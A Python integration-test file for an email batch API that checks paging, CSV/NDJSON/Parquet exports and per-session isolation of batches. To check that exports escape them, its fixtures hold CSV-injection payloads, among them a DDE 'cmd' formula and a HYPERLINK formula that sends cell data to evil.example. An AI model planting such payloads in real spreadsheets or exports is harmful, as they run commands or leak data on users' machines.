"""What became of each message of a batch: by the page, as a file, and to nobody but its session."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest

from cbemail.api.operation import Operation
from cbemail.api.routes import OPERATIONS
from tests.fakes.scripted_smtp import ScriptedSmtp
from tests.integration import merges
from tests.integration.conftest import API_KEY, Mailbox, credentials, logged_in
from tests.integration.dovecot import Dovecot
from tests.integration.gate import Gate
from tests.integration.mailboxes import problem

COLUMNS = [
    "id",
    "index",
    "key",
    "to",
    "state",
    "attempts",
    "message_id",
    "status",
    "enhanced",
    "detail",
    "next_attempt_at",
    "finished_at",
]
FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "=x@example.org", "+y@example.org"]
PARQUET = "application/vnd.apache.parquet"
NOT_FOUND: tuple[int, str, list[str]] = (404, "batch-not-found", [])


@pytest.fixture
async def other(
    base_url: str, dovecot: Dovecot, smtp_server: ScriptedSmtp
) -> AsyncIterator[Mailbox]:
    """Another user at the same server."""
    body = credentials(dovecot.fresh_user(), dovecot, smtp_server.port, "starttls")
    async with logged_in(base_url, body) as mailbox:
        yield mailbox


async def mixed(mailbox: Mailbox, smtp_server: ScriptedSmtp) -> dict[str, Any]:
    """A batch that has ended: 20 were sent, 2 failed, 3 were rejected; some names are formulas."""
    smtp_server.on("RCPT TO:<r1@", b"550 5.1.1 =who?\r\n")
    smtp_server.on("RCPT TO:<r2@", b"552 5.2.2 full\r\n")
    body = merges.merge(20)
    body["recipients"][5]["key"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    body["recipients"][6]["key"] = "-2+3"
    body["recipients"][7]["key"] = 7
    body["recipients"] += [merges.recipients(1)[0] | {"to": to} for to in FORMULAS]
    return await merges.until(mailbox, await merges.started(mailbox, body))


def scheduled(count: int) -> dict[str, Any]:
    """Recipients of whom nothing becomes meanwhile."""
    later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    return merges.merge(count, send_at=later)


def messages_of(batch: dict[str, Any]) -> str:
    return f"{merges.BATCHES}/{batch['id']}/messages"


async def file_of(
    mailbox: Mailbox, batch: dict[str, Any], accept: str, **params: Any
) -> httpx.Response:
    response = await mailbox.client.get(
        messages_of(batch), headers={"Accept": accept}, params=params
    )
    assert response.status_code == 200, response.text
    return response


async def pages(
    mailbox: Mailbox, path: str, name: str, **params: Any
) -> list[list[dict[str, Any]]]:
    """Every page of a collection."""
    found = []
    while True:
        response = await mailbox.get(path, **params)
        assert response.status_code == 200, response.text
        found.append(response.json()[name])
        params["cursor"] = response.json()["next_cursor"]
        if params["cursor"] is None:
            return found


# ---- pages


async def test_pages_are_complete_disjoint_and_in_the_requests_order(scripted: Mailbox) -> None:
    batch = await merges.started(scripted, scheduled(23))

    found = await pages(scripted, messages_of(batch), "messages", limit=5)

    rows = [row for page in found for row in page]
    assert [len(page) for page in found] == [5, 5, 5, 5, 3]
    assert [row["index"] for row in rows] == list(range(23))
    assert [row["to"] for row in rows] == [f"r{i}@example.org" for i in range(23)]
    assert len({row["id"] for row in rows}) == 23
    assert rows == await merges.report(scripted, batch)


async def test_a_page_that_ends_with_the_batch_has_no_next(scripted: Mailbox) -> None:
    batch = await merges.started(scripted, scheduled(10))

    found = await pages(scripted, messages_of(batch), "messages", limit=5)

    assert [len(page) for page in found] == [5, 5]


async def test_a_state_shows_its_messages_alone_through_all_pages(
    scripted: Mailbox, smtp_server: ScriptedSmtp
) -> None:
    batch = await mixed(scripted, smtp_server)

    by_state = {
        state: [
            row
            for page in await pages(scripted, messages_of(batch), "messages", limit=3, state=state)
            for row in page
        ]
        for state in batch["counts"]
        if state != "total"
    }

    assert {state: len(rows) for state, rows in by_state.items()} == {
        state: count for state, count in batch["counts"].items() if state != "total"
    }
    assert {row["state"] for row in by_state["failed"]} == {"failed"}
    assert [row["index"] for row in by_state["failed"]] == [1, 2]
    assert [row["index"] for row in by_state["rejected"]] == [20, 21, 22]


async def test_a_message_says_all_that_is_known_of_it(
    scripted: Mailbox, smtp_server: ScriptedSmtp
) -> None:
    batch = await mixed(scripted, smtp_server)

    rows = (await scripted.get(messages_of(batch), limit=200)).json()["messages"]

    assert [list(row) for row in rows] == [COLUMNS] * 25
    sent, failed, rejected = rows[0], rows[1], rows[20]
    assert (sent["state"], sent["attempts"], sent["status"], sent["enhanced"]) == (
        *("sent", 1, 250, "2.0.0"),
    )
    assert sent["detail"] == "250 2.0.0 Ok: queued"
    assert sent["id"].startswith("msg_")
    assert datetime.fromisoformat(sent["finished_at"]).tzinfo is not None
    assert (failed["state"], failed["attempts"], failed["status"], failed["enhanced"]) == (
        *("failed", 1, 550, "5.1.1"),
    )
    assert "who" not in failed["detail"], "a detail is ours"
    assert failed["next_attempt_at"] is None
    assert (rejected["state"], rejected["attempts"], rejected["status"]) == ("rejected", 0, None)
    assert [row["key"] for row in rows[4:8]] == [
        None,
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "-2+3",
        "7",
    ]


async def test_a_message_that_waits_says_until_when(
    scripted: Mailbox, smtp_server: ScriptedSmtp
) -> None:
    smtp_server.on("RCPT TO:<r0@", b"450 4.2.0 later\r\n")
    batch = await merges.started(scripted, merges.merge(2))

    await merges.until_counts(scripted, batch, lambda b: b["counts"]["deferred"])
    [row] = (await scripted.get(messages_of(batch), state="deferred")).json()["messages"]

    assert (row["attempts"], row["status"], row["finished_at"]) == (1, 450, None)
    assert datetime.fromisoformat(row["next_attempt_at"]) > datetime.now(UTC)


@pytest.mark.parametrize(
    "params",
    [{"limit": 0}, {"limit": 201}, {"limit": "x"}, {"state": "done"}, {"cursor": "x"}, {"page": 2}],
)
async def test_a_query_that_makes_no_sense_is_refused(
    scripted: Mailbox, params: dict[str, Any]
) -> None:
    batch = await merges.started(scripted, scheduled(1))

    response = await scripted.get(messages_of(batch), **params)

    assert problem(response)[:2] == (422, "invalid-request")


async def test_batches_are_listed_newest_first_in_pages(scripted: Mailbox, other: Mailbox) -> None:
    made = [(await merges.started(scripted, scheduled(1)))["id"] for _ in range(5)]
    await merges.started(other, scheduled(1))

    found = await pages(scripted, merges.BATCHES, "batches", limit=2)

    assert [[batch["id"] for batch in page] for page in found] == [
        [made[4], made[3]],
        [made[2], made[1]],
        [made[0]],
    ]
    for page in found:
        for batch in page:
            assert batch == await merges.get(scripted, batch)


async def test_what_a_batch_tells_is_kept_by_no_cache(scripted: Mailbox) -> None:
    batch = await merges.started(scripted, scheduled(1))
    path = f"{merges.BATCHES}/{batch['id']}"

    answers = [
        await scripted.get(path),
        await scripted.get(merges.BATCHES),
        await scripted.get(path + "/messages"),
        await file_of(scripted, batch, "text/csv"),
        await file_of(scripted, batch, PARQUET),
    ]

    assert {answer.headers["cache-control"] for answer in answers} == {"private, no-store"}
    assert all("server-timing" in answer.headers for answer in answers)


# ---- files


async def test_a_csv_has_every_message_and_no_formula(
    scripted: Mailbox, smtp_server: ScriptedSmtp
) -> None:
    batch = await mixed(scripted, smtp_server)

    response = await file_of(scripted, batch, "text/csv")
    rows = await merges.report(scripted, batch)

    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == f'attachment; filename="{batch["id"]}.csv"'
    head, *lines = csv.reader(io.StringIO(response.text, newline=""), strict=True)
    assert head == COLUMNS
    for line, row in zip(lines, rows, strict=True):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
        shown = ["" if row[name] is None else str(row[name]) for name in COLUMNS]
        assert [cell.removeprefix("'") for cell in line] == shown
    for index, cell in ((5, "'=HYPERLINK("), (6, "'-2+3")):
        assert lines[index][COLUMNS.index("key")].startswith(cell)
    assert [line[COLUMNS.index("to")] for line in lines[20:]] == [f"'{to}" for to in FORMULAS]


async def test_a_parquet_file_has_what_the_pages_have(
    scripted: Mailbox, smtp_server: ScriptedSmtp, tmp_path: Path, environ: dict[str, str]
) -> None:
    batch = await mixed(scripted, smtp_server)
    path = tmp_path / "report.parquet"

    response = await file_of(scripted, batch, PARQUET)
    path.write_bytes(response.content)
    rows = await merges.report(scripted, batch)

    assert response.headers["content-type"] == PARQUET
    with duckdb.connect() as database:
        found = database.execute(f"from read_parquet('{path}')").fetchall()
        described = database.execute(f"describe from read_parquet('{path}')").fetchall()
    assert [column[0] for column in described] == COLUMNS
    assert found == [
        tuple(timestamp(row[name]) if name.endswith("_at") else row[name] for name in COLUMNS)
        for row in rows
    ]
    assert list((Path(environ["DB_PATH"]).parent / "spool").iterdir()) == []


def timestamp(text: str | None) -> datetime | None:
    """A time as the file has it: of UTC, without saying so."""
    return None if text is None else datetime.fromisoformat(text).replace(tzinfo=None)


@pytest.mark.parametrize("accept", ["text/csv", "application/x-ndjson", PARQUET])
async def test_a_file_of_a_state_has_that_state_alone(
    scripted: Mailbox, smtp_server: ScriptedSmtp, tmp_path: Path, accept: str
) -> None:
    batch = await mixed(scripted, smtp_server)

    response = await file_of(scripted, batch, accept, state="failed")

    assert addresses_in(response, tmp_path) == ["r1@example.org", "r2@example.org"]


@pytest.mark.parametrize("accept", ["text/csv", "application/x-ndjson", PARQUET])
async def test_a_file_longer_than_what_is_read_at_once_is_whole(
    scripted: Mailbox, tmp_path: Path, accept: str
) -> None:
    batch = await merges.started(scripted, scheduled(1_201))

    response = await file_of(scripted, batch, accept)

    assert addresses_in(response, tmp_path) == [f"r{i}@example.org" for i in range(1_201)]


def addresses_in(response: httpx.Response, tmp_path: Path) -> list[str]:
    match response.headers["content-type"].partition(";")[0]:
        case "text/csv":
            return [row["to"] for row in csv.DictReader(io.StringIO(response.text, newline=""))]
        case "application/x-ndjson":
            return [json.loads(line)["to"] for line in response.text.splitlines()]
        case _:
            path = tmp_path / "report.parquet"
            path.write_bytes(response.content)
            with duckdb.connect() as database:
                found = database.execute(f"""select "to" from read_parquet('{path}')""").fetchall()
            return [to for (to,) in found]


async def test_a_report_of_a_batch_that_runs_has_each_recipient_once(
    scripted: Mailbox, smtp_server: ScriptedSmtp
) -> None:
    batch = await merges.started(scripted, merges.merge(2_000))
    await merges.until_counts(scripted, batch, lambda b: b["counts"]["sent"] > 100)

    rows = await merges.report(scripted, batch)
    meanwhile = await merges.get(scripted, batch)
    await merges.act(scripted, batch, "cancel")

    assert meanwhile["counts"]["sent"] < 2_000, "it was over before the report was"
    assert [row["index"] for row in rows] == list(range(2_000))
    assert len([row for row in rows if row["state"] == "sent"]) > 100


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("*/*", "application/json"),
        ("application/json", "application/json"),
        ("text/html", "application/json"),
        ("text/*", "text/csv"),
        ("text/csv;q=0.5, application/x-ndjson", "application/x-ndjson"),
        ("application/json;q=0.1, application/jsonl", "application/x-ndjson"),
        ("application/x-parquet", PARQUET),
    ],
)
@pytest.mark.parametrize("method", ["GET", "HEAD"])
async def test_the_form_is_the_one_that_is_liked_best_and_head_says_which(
    scripted: Mailbox, accept: str, media_type: str, method: str
) -> None:
    batch = await merges.started(scripted, scheduled(3))

    response = await scripted.client.request(method, messages_of(batch), headers={"Accept": accept})

    assert response.status_code == 200
    assert response.headers["content-type"].partition(";")[0] == media_type
    assert bool(response.content) is (method == "GET")


async def test_for_head_no_report_is_made(scripted: Mailbox, environ: dict[str, str]) -> None:
    batch = await merges.started(scripted, scheduled(3))
    headers = {"Accept": PARQUET}
    whole = await scripted.client.get(messages_of(batch), headers=headers)
    (Path(environ["DB_PATH"]).parent / "spool").rmdir()  # now none can be

    got = await scripted.client.get(messages_of(batch), headers=headers)
    head = await scripted.client.head(messages_of(batch), headers=headers)

    assert got.status_code == 503
    assert head.status_code == 200
    assert head.headers["content-disposition"] == whole.headers["content-disposition"]


@pytest.mark.parametrize("path", ["", "/messages", "/events"])
async def test_head_says_whether_there_is_such_a_batch_and_ends(
    scripted: Mailbox, other: Mailbox, path: str
) -> None:
    batch = await merges.started(scripted, scheduled(3))
    url = f"{merges.BATCHES}/{batch['id']}{path}"

    own, others = await scripted.client.head(url), await other.client.head(url)

    assert (own.status_code, own.content) == (200, b"")
    assert (others.status_code, others.content) == (404, b"")


# ---- whose it is (T-48)


OF_A_BATCH = [each for each in OPERATIONS if each.path.startswith("/api/send/batch/{id}")]
OF_A_SEND = [each for each in OPERATIONS if each.path == "/api/send/{id}"]


async def asked(
    client: httpx.AsyncClient, operation: Operation, what: str, **headers: str
) -> httpx.Response:
    path = operation.path.replace("{id}", what)
    return await client.request(operation.method, path, headers=headers)


def without_id(response: httpx.Response) -> dict[str, Any]:
    return {key: value for key, value in response.json().items() if key != "request_id"}


@pytest.mark.parametrize("operation", OF_A_BATCH, ids=lambda each: each.name)
async def test_anothers_batch_is_as_one_that_never_was(
    scripted: Mailbox,
    other: Mailbox,
    client: httpx.AsyncClient,
    smtp_server: ScriptedSmtp,
    operation: Operation,
) -> None:
    gate = Gate(smtp_server)
    batch = await merges.started(scripted, merges.merge(10))
    await smtp_server.heard(".", 2)
    by_key = {"X-API-Key": API_KEY, "X-Session-ID": other.session_id}

    never = await asked(other.client, operation, "bat_" + "0" * 32)
    others = await asked(other.client, operation, batch["id"])
    done = await asked(other.client, operation, batch["id"], **{"Last-Event-ID": "1-done"})
    keyed = await asked(client, operation, batch["id"], **by_key)
    nobody = await asked(client, operation, batch["id"])
    gate.open()
    ended = await merges.until(scripted, batch)

    assert problem(never) == NOT_FOUND
    for answer in (others, done, keyed):
        assert without_id(answer) == without_id(never)
    assert problem(nobody)[:2] == (401, "unauthenticated")
    assert ended["counts"]["sent"] == 10, "somebody else stopped it"


@pytest.mark.parametrize("operation", OF_A_BATCH, ids=lambda each: each.name)
async def test_the_batch_of_a_session_that_has_ended_is_gone(
    scripted: Mailbox, other: Mailbox, client: httpx.AsyncClient, operation: Operation
) -> None:
    batch = await merges.started(scripted, scheduled(3))
    by_key = {"X-API-Key": API_KEY, "X-Session-ID": scripted.session_id}

    await scripted.delete(f"/api/sessions/{scripted.session_id}")
    own = await asked(scripted.client, operation, batch["id"])
    keyed = await asked(client, operation, batch["id"], **by_key)
    others = await asked(other.client, operation, batch["id"])

    assert own.status_code in {401, 404}
    assert problem(keyed)[:2] == (404, "session-not-found")
    assert problem(others) == NOT_FOUND


@pytest.mark.parametrize("operation", OF_A_SEND, ids=lambda each: each.name)
async def test_anothers_queued_message_is_as_one_that_never_was(
    scripted: Mailbox, other: Mailbox, client: httpx.AsyncClient, operation: Operation
) -> None:
    later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    message = {"to": "a@example.org", "body": "x", "send_at": later}
    queued = (await scripted.post("/api/send", message)).json()

    never = await asked(other.client, operation, "msg_" + "0" * 32)
    others = await asked(other.client, operation, queued["id"])
    nobody = await asked(client, operation, queued["id"])
    own = await scripted.get(f"/api/send/{queued['id']}")

    assert never.status_code == 404
    assert without_id(others) == without_id(never)
    assert problem(nobody)[:2] == (401, "unauthenticated")
    assert own.json()["state"] == "queued"


async def test_another_session_sees_no_batch_of_this_one(scripted: Mailbox, other: Mailbox) -> None:
    await merges.started(scripted, scheduled(1))

    assert (await other.get(merges.BATCHES)).json() == {"batches": [], "next_cursor": None}


async def test_a_row_of_a_batch_is_no_message_to_be_asked_for_by_others(
    scripted: Mailbox, other: Mailbox
) -> None:
    batch = await merges.started(scripted, scheduled(1))
    [row] = await merges.report(scripted, batch)

    for mailbox in (scripted, other):
        assert (await mailbox.delete(f"/api/send/{row['id']}")).status_code == 404
    assert (await merges.get(scripted, batch))["counts"]["queued"] == 1


@pytest.mark.parametrize(
    "operation",
    OF_A_BATCH,
    ids=lambda each: each.name,
)
async def test_a_single_message_is_no_batch(scripted: Mailbox, operation: Operation) -> None:
    later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    message = {"to": "a@example.org", "body": "x", "send_at": later}
    queued = (await scripted.post("/api/send", message)).json()

    async with scripted.client.stream(
        operation.method, operation.path.replace("{id}", queued["id"])
    ) as response:
        status = response.status_code

    assert status == 404
    assert (await scripted.get(f"/api/send/{queued['id']}")).json()["state"] == "queued"


@pytest.mark.parametrize("operation", OF_A_SEND, ids=lambda each: each.name)
async def test_a_batch_is_no_single_message(scripted: Mailbox, operation: Operation) -> None:
    batch = await merges.started(scripted, scheduled(1))

    response = await asked(scripted.client, operation, batch["id"])

    assert response.status_code == 404
    assert (await merges.get(scripted, batch))["state"] == "scheduled"
